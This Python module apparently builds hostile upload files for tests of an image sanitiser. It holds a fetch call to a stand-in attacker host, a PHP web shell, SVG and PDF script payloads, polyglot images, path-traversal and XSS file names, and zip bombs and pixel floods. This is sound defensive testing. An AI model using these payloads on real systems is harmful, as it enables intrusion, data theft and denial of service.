"""Files that mean harm, made by chance from a seed; each holds MARK where only an attacker would put it."""

import io
import random
import struct
import zipfile
from collections.abc import Callable
from typing import Any

from PIL import Image

from tests.shared.media import samples

MARK = b"nodverk-hides-here"
SCRIPT = b"<script>fetch('https://evil.example/" + MARK + b"')</script>"
KINDS = {"jpg": "JPEG", "png": "PNG", "gif": "GIF", "webp": "WEBP", "avif": "AVIF"}
NAMES = (
    "bild.png",
    "../../etc/passwd",
    "<img src=x onerror=alert(1)>.jpg",
    "a\0.svg",
    "x.php.gif",
    ".htaccess",
    "å" * 300,
)

type Maker = Callable[[random.Random], bytes]


def _picture(chance: random.Random, kind: str = "") -> tuple[bytes, str]:
    extension = kind or chance.choice(sorted(KINDS))
    return samples.picture(chance.randrange(4, 60), chance.randrange(4, 60), kind=KINDS[extension]), extension


def _script(chance: random.Random) -> bytes:
    """Something that runs somewhere."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
    page = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
    pdf = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(" + MARK + b")>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    php = b"<?php system($_GET['" + MARK + b"']); ?>"
    packed = samples.archive(("evil.html", page), ("META-INF/MANIFEST.MF", MARK))
    return chance.choice((svg, page, pdf, php, packed, b"MZ\x90\0" + MARK, b"#!/bin/sh\n# " + MARK))


def _telling(chance: random.Random) -> bytes:
    """EXIF with a name and a position, XMP, or a comment."""
    extension = chance.choice(("jpg", "png", "webp", "avif"))
    exif = samples.telling_exif(chance.randrange(1, 9))
    exif[0x013B] = MARK.decode()
    options: dict[str, Any] = {"exif": exif.tobytes()}
    if extension in {"jpg", "webp"} and chance.random() < 0.5:
        options["xmp"] = b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"
    return samples.picture(chance.randrange(4, 60), chance.randrange(4, 60), kind=KINDS[extension], **options)


def _talking(chance: random.Random) -> bytes:
    """A comment, or a part that no picture has."""
    data, extension = _picture(chance, chance.choice(("jpg", "png", "gif")))
    if extension == "jpg":
        marker = chance.choice((0xFE, 0xE1, 0xE5, 0xED))
        return data[:2] + bytes((0xFF, marker)) + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + data[2:]
    if extension == "png":
        kind = chance.choice((b"tEXt", b"iTXt", b"zzZz", b"eXIf", b"tIME"))
        return data[:33] + samples.chunk(kind, b"Comment\0" + SCRIPT) + data[33:]
    return samples.picture(chance.randrange(4, 60), 20, kind="GIF", comment=SCRIPT)


def _tailed(chance: random.Random) -> bytes:
    """A picture, and something behind it."""
    return _picture(chance)[0] + _script(chance)


def _headed(chance: random.Random) -> bytes:
    """Something, and a picture behind it; or the start of a picture, and a script."""
    start = chance.choice((b"GIF89a/*", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"RIFF\0\0\0\0WEBP", b"%PDF-", b""))
    return start + _script(chance) + _picture(chance)[0]


def _broken(chance: random.Random) -> bytes:
    """Cut short, or with bits that are turned, and something behind."""
    data = bytearray(_picture(chance)[0])
    for _ in range(chance.randrange(1, 12)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data[: chance.randrange(1, len(data))] if chance.random() < 0.5 else data) + _script(chance)


def _disguised(chance: random.Random) -> bytes:
    """No picture at all."""
    return _script(chance)


MAKERS: tuple[Maker, ...] = (_telling, _talking, _tailed, _headed, _broken, _disguised)


def hostile_file(chance: random.Random) -> bytes:
    """One file."""
    return chance.choice(MAKERS)(chance)


def floods() -> dict[str, bytes]:
    """Small files that unpack to gigabytes of pixels, or would if anybody unpacked them."""
    tall = bytearray(samples.picture(kind="JPEG"))
    place = tall.index(b"\xff\xc0")
    tall[place + 5 : place + 9] = struct.pack(">HH", 65_000, 65_000)
    gif = bytearray(samples.picture(kind="GIF"))
    gif[6:10] = struct.pack("<HH", 65_000, 65_000)
    return {
        "png": samples.pixel_flood(),
        "wide png": samples.pixel_flood(2_000_000_000, 1),
        "jpg": bytes(tall),
        "gif": bytes(gif),
        "texts": samples.text_flood(),
        "frames": _frames(),
    }


def bombs() -> dict[str, bytes]:
    """Archives that unpack to much."""
    zeros = b"\0" * 20_000_000
    inner = samples.archive(*((f"{number}.bin", zeros) for number in range(3)))
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as file:
        for number in range(21_000):
            file.writestr(zipfile.ZipInfo(f"{number}"), b"")
    return {
        "zip in zip": samples.archive(*((f"{number}.zip", inner) for number in range(5))),
        "document": samples.archive(("mimetype", zeros), ("content.xml", zeros)),
        "office": samples.archive(("word/document.xml", zeros)),
        "many entries": many.getvalue(),
    }


def _frames() -> bytes:
    target = io.BytesIO()
    frames = [Image.new("P", (4_000, 4_000), number % 3) for number in range(12)]
    frames[0].save(target, format="GIF", save_all=True, append_images=frames[1:], duration=20, optimize=False)
    return target.getvalue()
